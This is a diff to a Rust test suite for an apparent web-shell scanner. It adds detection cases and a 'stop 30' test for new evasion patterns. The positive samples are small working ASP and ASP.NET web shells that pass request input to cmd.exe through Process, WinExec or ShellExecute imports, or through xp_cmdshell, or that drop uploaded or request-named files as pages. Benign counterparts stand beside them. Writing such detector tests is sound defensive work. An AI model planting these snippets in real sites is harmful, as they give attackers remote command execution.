@@ -578,6 +578,16 @@ fn cases() -> Vec<Case> {
             "@using System.Linq\n@{ var items = Model.Items; }\n<input name=\"Checkbox.@permission.Name\" value=\"@Process.Name\" /> <a href=\"mailto:user.@domain\">@Model.Title</a>\n",
         ),
         case(
+            "EXRAY_CS_Unicode_Escape_Evasion",
+            "<%@ Page Language=\"C#\" %>\n<% var p = new System.Diagnostics.Pro\\u0063ess(); p.StartInfo.FileName = \"cm\\u0064.exe\"; p.StartInfo.Arguments = \"/c \" + Request[\"c\"]; p.Start(); %>\n",
+            "<%@ Page Language=\"C#\" %>\n<% string nbsp = \"\\u00a0\", amp = \"\\u0026\"; %>\n<script>var re = /[\\u0041-\\u005A]/; var t = \"\\u4e2d\\u6587\";</script>\n",
+        ),
+        case(
+            "EXRAY_Upload_Saved_As_Script",
+            "<%@ Page Language=\"C#\" %><%if (Request.Files.Count!=0) Request.Files[0].SaveAs(Server.MapPath(\"./help.aspx\"));%>\n",
+            "<%@ Page Language=\"C#\" %><%if (Request.Files.Count!=0) Request.Files[0].SaveAs(Server.MapPath(\"~/avatars/\" + User.Identity.Name + \".png\"));%>\n<a href=\"profile.aspx\">back</a>\n",
+        ),
+        case(
             "EXRAY_Upload_Request_Named",
             "<%@ Page Language=\"C#\" %>\n<% if (Request.Files.Count > 0) Request.Files[0].SaveAs(Server.MapPath(\"./\") + Request[\"n\"]); %>\n",
             "<%@ Page Language=\"C#\" %>\n<% var f = Request.Files[0];\nif (System.IO.Path.GetExtension(f.FileName) == \".pdf\")\n f.SaveAs(Server.MapPath(\"~/uploads/\") + System.IO.Path.GetFileName(f.FileName)); %>\n",
@@ -1673,6 +1683,74 @@ fn stop_27_second_read() {
     assert!(hits(doc).is_empty(), "{:?}", hits(doc));
     let dll = "MZ\u{90}\0<%DllImport VirtualAllocEx WriteProcessMemory CreateRemoteThread";
     assert!(hits(dll).is_empty(), "{:?}", hits(dll));
+}
+
+/// Stop 30: names joined after the site root's path, process APIs imported by P/Invoke, a
+/// stylesheet under a copy's name, xp_cmdshell of a bound parameter, spaced verbatim names, the
+/// Function constructor reached through a function.
+#[test]
+fn stop_30_new_kinds() {
+    // a name joined after the site root's MapPath, and the last part of a Path.Combine on it
+    for page in [
+        "<%@ Page Language=\"C#\" %>\n<% System.IO.File.WriteAllText(Server.MapPath(\"/\") + Request[\"n\"], Request[\"c\"]); %>\n",
+        "<%@ Page Language=\"C#\" %>\n<% string n = Request.Form[\"n\"];\nSystem.IO.File.WriteAllText(System.IO.Path.Combine(Server.MapPath(\"~/\"), n), Request.Form[\"b\"]); %>\n",
+        "<%\nSet fso = Server.CreateObject(\"Scripting.FileSystemObject\")\nSet f = fso.CreateTextFile(Server.MapPath(\".\") & \"\\\" & Request(\"n\"), True)\nf.Write Request(\"c\")\nf.Close\n%>\n",
+    ] {
+        has(page, "EXRAY_File_Dropper_Flow");
+    }
+    // a folder of the site's own with the caller's name, the text encoded: no dropper
+    let folder = "<%@ Page Language=\"C#\" %>\n<% var t = Request.Form[\"t\"];\nSystem.IO.File.WriteAllText(Server.MapPath(\"~/notes/\") + Request.Form[\"n\"] + \".txt\", Server.HtmlEncode(t)); %>\n";
+    assert!(
+        !hits(folder).contains("EXRAY_File_Dropper_Flow"),
+        "{:?}",
+        hits(folder)
+    );
+    // a process API imported under a name of the page's own, and shell32's ShellExecute
+    has(
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[DllImport(\"kernel32\", EntryPoint = \"WinExec\")]\nstatic extern int Launch(string line, int show);\nvoid Page_Load(object s, EventArgs e) {\n  string c = Request.QueryString[\"x\"];\n  if (c != null) Launch(\"cmd.exe /c \" + c, 0);\n}\n</script>\n",
+        "EXRAY_Request_Process_Flow",
+    );
+    has(
+        "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[DllImport(\"shell32.dll\")]\nstatic extern IntPtr ShellExecute(IntPtr h, string op, string file, string args, string dir, int show);\nvoid Page_Load(object s, EventArgs e) {\n  ShellExecute(IntPtr.Zero, \"open\", \"cmd.exe\", \"/c \" + Request[\"a\"], null, 0);\n}\n</script>\n",
+        "EXRAY_Request_Process_Flow",
+    );
+    has(
+        "<%@ Page Language=\"VB\" %>\n<script runat=\"server\">\nDeclare Function Go Lib \"kernel32\" Alias \"WinExec\" (ByVal l As String, ByVal s As Integer) As Integer\nSub Page_Load()\n  Go(\"cmd /c \" & Request(\"c\"), 0)\nEnd Sub\n</script>\n",
+        "EXRAY_Request_Process_Flow",
+    );
+    // the same import run on a fixed command
+    let fixed = "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\n[DllImport(\"kernel32\", EntryPoint = \"WinExec\")]\nstatic extern int Launch(string line, int show);\nvoid Page_Load(object s, EventArgs e) {\n  Launch(\"C:\\\\tools\\\\reindex.exe\", 0);\n  Response.Write(Server.HtmlEncode(Request[\"q\"]));\n}\n</script>\n";
+    assert!(
+        !hits(fixed).contains("EXRAY_Request_Process_Flow"),
+        "{:?}",
+        hits(fixed)
+    );
+    // the stylesheet document passed to transformNode under a copy's name
+    has(
+        "<%\nSet a = Server.CreateObject(\"MSXML2.DOMDocument\")\na.loadXML Request.Form(\"s\")\nSet b = a\nSet d = Server.CreateObject(\"MSXML2.DOMDocument\")\nd.loadXML \"<r/>\"\nResponse.Write d.transformNode(b)\n%>\n",
+        "EXRAY_XSLT_Request_Stylesheet",
+    );
+    // xp_cmdshell of a parameter the caller fills, and of one the page fills itself
+    has(
+        "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(\"server=.;integrated security=true\")) { cn.Open();\nvar cmd = new SqlCommand(\"exec master..xp_cmdshell @c\", cn);\ncmd.Parameters.AddWithValue(\"@c\", Request.Form[\"q\"]);\nvar r = cmd.ExecuteReader(); } %>\n",
+        "EXRAY_SQL_Shell_Request_Flow",
+    );
+    let own = "<%@ Page Language=\"C#\" %>\n<% using (var cn = new SqlConnection(\"server=.;integrated security=true\")) { cn.Open();\nvar cmd = new SqlCommand(\"exec master..xp_cmdshell @c\", cn);\ncmd.Parameters.AddWithValue(\"@c\", \"dir D:\\\\backup\");\ncmd.Parameters.AddWithValue(\"@q\", Request.Form[\"q\"]);\nvar r = cmd.ExecuteReader(); } %>\n";
+    assert!(
+        !hits(own).contains("EXRAY_SQL_Shell_Request_Flow"),
+        "{:?}",
+        hits(own)
+    );
+    // a verbatim name spaced from its dot, and the Function constructor reached through a
+    // function's constructor
+    has(
+        "<%@ Page Language=\"C#\" %>\n<% var i = new System.Diagnostics.ProcessStartInfo(\"cmd\", \"/c \" + Request[\"c\"]);\nvar p = System.Diagnostics.Process. @Start(i); %>\n",
+        "EXRAY_CS_Verbatim_Identifier_Evasion",
+    );
+    has(
+        "<%@ Page Language=\"JScript\" %>\n<%\nvar f = (function(){}).constructor;\nf(Request.Item[\"z\"])();\n%>\n",
+        "EXRAY_JScript_Eval_Alias",
+    );
 }
 
 /// Stop 29: XSLT stylesheets, SQL Server command shells, verbatim identifiers, Razor pages, and
